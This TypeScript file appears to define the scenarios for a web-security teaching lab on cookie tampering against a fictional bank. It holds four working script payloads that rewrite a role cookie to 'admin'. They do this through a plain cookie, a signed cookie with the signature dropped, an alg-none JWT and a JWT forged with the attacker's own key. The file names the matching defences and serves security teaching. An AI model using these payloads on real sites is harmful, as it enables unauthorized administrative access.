import { type AttackOf, notWritten } from './attack.ts';

const common = {
  lab: 'tampering',
  goal: 'The bank shows its admin page to Mallory.',
  aim: 'administration',
  victim: 'logged-in',
  ifUnseen: 'stopped',
  afterDelivery: 'At the bank, open the admin page.',
  ground: 'console',
  sign: { at: 'bank', method: 'GET', path: '/admin' },
  defences: ['signed-role', 'verified-jwt-role', 'role-in-session'],
  probe: null,
} as const;

const encode = `const part = (value) => btoa(JSON.stringify(value)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');`;

/** Lab 5: a customer changes the cookie that says what it may do. */
export const tampering = [
  {
    ...common,
    id: 'tamper-plain',
    title: 'Change role=user to role=admin',
    story: 'The role is in a plain cookie. Mallory writes another role into it.',
    weakness: { ...notWritten, role: 'plain' },
    exploit: `<script>
  document.cookie = '{{role}}=admin; Path=/; Max-Age=600';
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
</script>`,
  },
  {
    ...common,
    id: 'tamper-signed',
    title: 'A signed cookie without its signature',
    story:
      'The role cookie is signed, but the bank reads it with cookieParser.signedCookie(), which returns a value without a signature unchanged. Mallory leaves the signature out.',
    weakness: { ...notWritten, role: 'careless-signed' },
    exploit: `<script>
  document.cookie = '{{role}}=admin; Path=/; Max-Age=600';
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
</script>`,
  },
  {
    ...common,
    id: 'tamper-jwt-none',
    title: 'A JWT with alg none',
    story: 'The role is in a JWT that the bank decodes without verifying it. Mallory writes an unsigned one.',
    weakness: { ...notWritten, role: 'unverified-jwt' },
    exploit: `<script>
  ${encode}
  const token = part({ alg: 'none', typ: 'JWT' }) + '.' + part({ role: 'admin' }) + '.';
  document.cookie = '{{role}}=' + token + '; Path=/; Max-Age=600';
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
</script>`,
  },
  {
    ...common,
    id: 'tamper-jwt-key',
    title: 'A JWT signed with another key',
    story: 'The same, but Mallory signs the token, with her own key.',
    weakness: { ...notWritten, role: 'unverified-jwt' },
    exploit: `<script type="module">
  ${encode}
  const text = part({ alg: 'HS256', typ: 'JWT' }) + '.' + part({ role: 'admin' });
  const bytes = (string) => new TextEncoder().encode(string);
  const key = await crypto.subtle.importKey('raw', bytes('mallory'), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, bytes(text)));
  const mark = btoa(String.fromCharCode(...signature)).replaceAll('=', '').replaceAll('+', '-').replaceAll('/', '_');
  document.cookie = '{{role}}=' + text + '.' + mark + '; Path=/; Max-Age=600';
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'Written.' });
</script>`,
  },
] as const satisfies readonly AttackOf<string>[];
